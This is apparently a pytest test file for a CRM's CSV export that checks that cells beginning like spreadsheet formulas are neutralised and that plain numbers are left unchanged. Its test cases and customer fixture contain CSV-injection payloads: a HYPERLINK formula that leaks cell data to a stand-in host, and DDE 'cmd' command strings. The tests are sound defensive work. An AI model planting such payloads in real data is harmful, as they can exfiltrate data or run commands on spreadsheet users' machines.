"""CSV exports are opened in spreadsheets: no cell may run as a formula (CSV injection), numbers stay numbers."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.urls import reverse

from crm.kernel.csvfiles import SafeWriter, safe_cell
from tests.customers.factories import CustomerFactory


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ('=HYPERLINK("http://evil.example","Click")', '\'=HYPERLINK("http://evil.example","Click")'),
        ("=1+1", "'=1+1"),
        ("+1 207 555 0101", "'+1 207 555 0101"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("\uff1d1+1", "'\uff1d1+1"),  # a full-width equals sign
        ("-", "'-"),
        # Plain numbers cannot run: they stay numbers, signed or not.
        ("-20.00", "-20.00"),
        ("+12075550101", "+12075550101"),
        ("42", "42"),
        (Decimal("-20.00"), Decimal("-20.00")),
        (-3, -3),
        ("Anna = Anne", "Anna = Anne"),
        ("", ""),
        (None, None),
    ],
)
def test_a_cell_that_starts_like_a_formula_is_neutralised_and_a_number_is_not(value, written):
    assert safe_cell(value) == written


def test_the_safe_writer_neutralises_every_cell_of_a_row():
    buffer = io.StringIO()
    SafeWriter(buffer).writerow(["=1+1", Decimal("-20.00"), "@x", 7, "-20.00"])
    assert next(csv.reader(io.StringIO(buffer.getvalue()))) == ["'=1+1", "-20.00", "'@x", "7", "-20.00"]


@pytest.mark.postgres
def test_the_marketing_export_neutralises_a_customer_named_like_a_formula(client, manager, location):
    from customers.models import Tag

    customer = CustomerFactory(
        first_name='=HYPERLINK("http://evil.example/?leak="&A2,"Click me")',
        last_name="@SUM(1+1)*cmd|' /C calc'!A0",
        preferred_name="+Nina",
        phone="+12075550123",
        home_location=location,
        consent_email_at=datetime.date(2026, 1, 5),
        consent_phone_at=datetime.date(2026, 1, 5),
    )
    customer.tags.add(Tag.objects.create(name="-vip"))
    client.force_login(manager)
    body = b"".join(client.get(reverse("customer-export")).streaming_content).decode()
    [row] = list(csv.DictReader(io.StringIO(body)))
    assert row["first_name"] == '\'=HYPERLINK("http://evil.example/?leak="&A2,"Click me")'
    assert row["last_name"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["preferred_name"] == "'+Nina"
    assert row["tags"] == "'-vip"
    assert row["phone"] == "+12075550123"  # a plain number: it stays one
